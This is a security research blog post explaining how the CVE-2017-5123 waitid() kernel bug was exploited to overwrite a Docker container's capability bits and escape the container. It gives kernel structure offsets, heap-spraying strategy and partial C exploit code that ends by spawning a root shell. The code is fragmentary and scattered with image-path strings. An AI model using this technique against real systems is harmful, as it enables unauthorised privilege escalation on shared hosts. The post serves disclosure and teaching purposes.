This post describes how I exploited the waitid() vulnerability in order to modify the Linux capabilities of a Docker container to gain elevated privileges, and ultimately escape the container jail. If you want to see how Twistlock would stop this vulnerability in its tracks, check out my follow up blog.

But before we dive in, since an image is worth a thousand words, here is my exploit in action. It modifies the containerized process capabilities structure in memory, resulting in a gain of CAP_SYS_ADMIN and CAP_NET_ADMIN capabilities. This results in the ability to enable promiscuous mode on eth0 (docker bridge for the container):

Note that I have turned off Kernel ASLR for the recording, but it also works with KASLR as we can find the kernel base and the heap base by using the same vulnerability.CVE-2017-5123 was published earlier this year on Oct 12 — it was a Linux kernel vulnerability in the waitid() syscall for 4.12-4.13 kernel versions. The waitid() syscall defined as:

int waitid(idtype_t idtype, id_t id, siginfo_t *infop, int options);

The vulnerability allows an attacker to write a partially-controlled data to kernel memory address of his choice. The kernel memory address can be provided as the infop pointer above. The pointer points to a struct siginfo described below. In this struct we can control several variables, specifically pid and status.

As you can see below, the control is rather indirect.

struct siginfo {
    int si_signo;
    int si_errno;
    int si_code;
    int padding;   // this remains unchanged by waitid
    int pid;       // process id
    int uid;       // user id
    int status;    // return code

Most of the values cannot be controlled by us or are limited in their size for our needs, however we can control the pid value by creating a lot of processes with the help of fork() or clone() until we hit the desired pid value. Still, we are limited by the PID_MAX value of the system, which is by default configured to be 32768 which equals to 0x8000 in hex.

Note: In a non-containerized environment we could elevate this number after changing our uid to 0 and gain root privileges, as we could modify /proc/sys/kernel/pid_max to any number.

Linux Capabilities

In this section I’ll focus on a short overview of Linux capabilities – what they are, how Docker uses them, and how they are represented in the memory.

The code snippet below is taken from linux/cred.h and is the definition of the credentials struct thateach process has:

struct cred {
    atomic_t    usage;
    atomic_t    subscribers;    /* number of processes subscribed */
    void        *put_addr;
    unsigned    magic;
#define CRED_MAGIC    0x43736564
#define CRED_MAGIC_DEAD    0x44656144
    kuid_t        uid;        /* real UID of the task */
    kgid_t        gid;        /* real GID of the task */
    kuid_t        suid;        /* saved UID of the task */
    kgid_t        sgid;        /* saved GID of the task */
    kuid_t        euid;        /* effective UID of the task */
    kgid_t        egid;        /* effective GID of the task */
    kuid_t        fsuid;        /* UID for VFS ops */
    Kgid_t    fsgid; /* GID forVFS ops */
    Unsigned    securebits; /* SUID-less security management */
    Kernel_cap_tcap_inheritable; /* caps our children can inherit */
    Kernel_cap_t    cap_permitted;    /* caps we're permitted */
    Kernel_cap_t    cap_effective;    /* caps we can actually use */
    Kernel_cap_t    cap_bset; /* capability bounding set */
    kernel_cap_t    cap_ambient; /* Ambient capability set */

man capabilities:

Starting with kernel 2.2, Linux divides the privileges traditionally associated with superuser into distinct units, known as capabilities, which can be independently enabled and disabled.
Capabilities are a per-thread attribute.

Linux capabilities are stored inside each process’s own cred struct and represented by a bitmask.For example all caps enabled would be represented by abitmask of 0xFFFFFFFFFFFFFFFF.

Each capability provides a different set of permissions, for instance:

CAP_SYS_MODULE  – allows for loading & unloading kernel modules.

CAP_NET_ADMIN – allows for various network operations. For example entering promiscuous mode, interface configuration and more.

CAP_SYS_ADMIN – enables a range of system administration operations such as quotactl, mount,umount, swapon, setdomainname, ptrace and much more (this cap gives the most privileges and overloads others).

You can find the full list of CAPS over here.

Docker uses capabilities to provide a better isolation for containers. It simply drops capabilities that would enable container escape. For example, you will rarely see a container that is running out-of-the-box with any of the 3 capabilities above, as it would be a security concern if a container could access the network interface and sniff the traffic of other containers or the host itself, or if a user inside the container could mount directories on the host and load kernel modules.

Although it might be easier to build a ROP chain and call commit_creds(0) in order to gain root with full capabilities, in order to learn more about heap spraying, I decided to go with the blind exploitation method by spraying the kernel heap with thousands of struct creds like Federico did. The downside of the this exploit is that full caps are impossible to reach as we are not in control of what we are writing (we are limited to0x8000) and the value of 0xFFFFFFFFFFFFFFFF is out of reach for us.

The vulnerability

The code snippet below is taken from kernel/exit.c and is in charge of handling the waitid() syscall:

SYSCALL_DEFINE5(waitid, int, which, pid_t, upid, struct siginfo __user *,
        infop, int, options, struct rusage __user *, ru)
    struct rusage r;
    struct waitid_info info = {.status = 0};
    long err = kernel_waitid(which, upid, &info, options, ru ? &r : NULL);
    int signo = 0;

    if (err > 0) {
        signo = SIGCHLD;
        err = 0;
        if (ru && copy_to_user(ru, &r, sizeof(structrusage)))
            return -EFAULT;
    if (!infop)
        return err;

    if (!access_ok(VERIFY_WRITE, infop, sizeof(*infop)))
        return -EFAULT;

    unsafe_put_user(signo, &infop->si_signo, Efault);
    unsafe_put_user(0, &infop->si_errno, Efault);
    unsafe_put_user(info.cause, &infop->si_code, Efault);
    unsafe_put_user(, &infop->si_pid, Efault);
    unsafe_put_user(info.uid, &infop->si_uid, Efault);
    unsafe_put_user(info.status, &infop->si_status, Efault);
    return err;
    return -EFAULT;

The vulnerability is that the highlighted access_ok() check, which ensures that the user specified pointer is in fact a user-space pointer, was missing in the waitid() syscall. Without this check a user can supply a kernel address pointer and the syscall will write to it without objections when executing unsafe_put_user.

As we already know – we can’t simply write whatever we want, but we will have to try to gain as much as we can within these limitations.

Info.status is a 32 bit int, but the value of status is constrained to 0 < status > 256 as we can see in the exit codes documentation, and as we already know pid is constrained by MAX_PID.

At this point we have the ability to write a value of pid :  0 < pid < 0x8000 to anywhere we want. The next challenge is to detect where we should write in order to successfully overwrite the desired values. We need to remember that the syscall will actually write 6 different fields each time we execute it, as there will be 6 executions of unsafe_put_user() So we will needto take into account the offset of pid inside the infop struct and use it to subtract that value from the target address that we want to write to, the target address is then passed into waitid() syscall as the infop pointer. Our main goal with this exploit is to overwrite the capabilities that Docker sets for us, thus gaining additional privileges and to escape the container.

Spray n’ Pray

I decided to take an approach similar to Federico, so I proceeded to spray the kernel heap with thousands of struct creds and then start guessing by writing to various addresses and pray to hit my target.

By picking a value that we can track such as uid (which we can track with getuid()).
We can, with a little bit a luck, pinpoint our struct cred location, after which we will be able to write tospecific offsets in order to overwrite the capabilities, gid, euid and anything else we want.
But in order to do that we need to figure out the actual offsets, which we will do with the help of gdb:

As we can see, kuid_t is 4 bytes in size, as such if we found uid on 0xFFFF880023cc1004 than gid will be at 0xFFFF880023cc1008, 4 bytes above, and euid will be at 0xFFFF880023CC1014 which is 4*0x4=0x10 bytes above our uid address as illustrated in the diagram below.

So essentially in order to overwrite our caps we will have to write to:
address_of_uid+0x4*8 = address_of_uid+0x20 = address_of_cap_inheritable
Note: These addresses are relevant to my system, your addresses might differ.

In order to find out where our sprayed cred structs might land in the heap we will use gdb again and set a breakpoint on sys_getuid in order to break when our program calls getuid().

A few step commands after the breakpoint (it took 5 on my system) should reveal the cred struct address in the RAX register.

We can repeat that process of finding the struct for a number of forks in order to collect enough addresses and analyze the statistics of where the struct cred is most likely to be in the heap

So the plan is as follows:

  1. Spawn thousands of processes bycalling fork() in order to create thousands of cred structs in the kernel heap and make each of the processes constantly check if its UID==0 by calling getuid()
  2. Start writing the value 0 to addresses to which the struct cred->uid might land
  3. If and when one of our forked processes gets uid==0, it means that we have successfully overwritten the uidvalue with our guesses from step 2. Now we can overwrite the rest of the cred struct and change caps by writing to the offsets that we determined.

Our dirty exploit will be something to the effect of:

void writecaps(char *addr,unsigned long value){
while(1) {
      int pid = clone(exit_func, &new_stack[5000], CLONE_VM | SIGCHLD, NULL);
      if (!pid) {
      if (pid == value) {
        syscall(SYS_waitid, P_PID, pid, addr, WEXITED, NULL);

void spraynpray(){
pid_t pid;
FILE *f;
char *argv[] = {"/bin/sh", NULL};
for (int i=0;i<5000;i++)
    pid = fork();
    if (pid==0){ // child process
  while (1) {
    if (*glob_var==1) {
      syscall(SYS_exit, 0);
    if (getuid() == 0){
    printf("[+] Got UID: 0 !\n");
     *glob_var = 1;
     writecaps((char *)finalcapsaddress,value);
    printf("Done, spawning a shell \n");
    execve("/bin/sh", argv, NULL);

    else if(pid<0)
        printf("failed to fork");

    else //parent process


void swapuid(){

    char* i,p;
    for(i = (char *)0xffff8800321b4004; ; i+=0xc0)
        printf("trying %p\n",i);syscall(__NR_waitid, P_PID, 0,(siginfo_t *)i, WEXITED, NULL);
munmap(glob_var, sizeof *glob_var);
printf("Found uid on %p\n",i-0xc0);

int main(void)
    glob_var = mmap(NULL, sizeof *glob_var, PROT_READ | PROT_WRITE,
                    MAP_SHARED | MAP_ANONYMOUS, -1, 0);

    *glob_var = 0;

unsigned long* base = findbase();

After analyzing my system (Ubuntu 17.10,Kernel 4.13.0-15, arch x86-64), I found a couple of areas where it seemed that cred struct is more likely to land in about 70% of the executions, but there is still a risk of crashing the machine because we may overwrite something important in the kernel.


In 2017 alone, 434 linux kernel exploits where found, andas you have seen in this post, kernel exploits can be devastating for containerized environments. This is because containers share the same kernel as the host, thus trusting the built-in protection mechanisms alone isn’t sufficient. Make sure your kernel is always updated on all of your production hosts.

Thank you for reading and don’t forget to follow us @TwistlockLabs.

Big credits to Federico Bento for pointing some things out and to Chris Salls for hisChrome sandbox escape exploit; my exploitation is heavilybased on their work.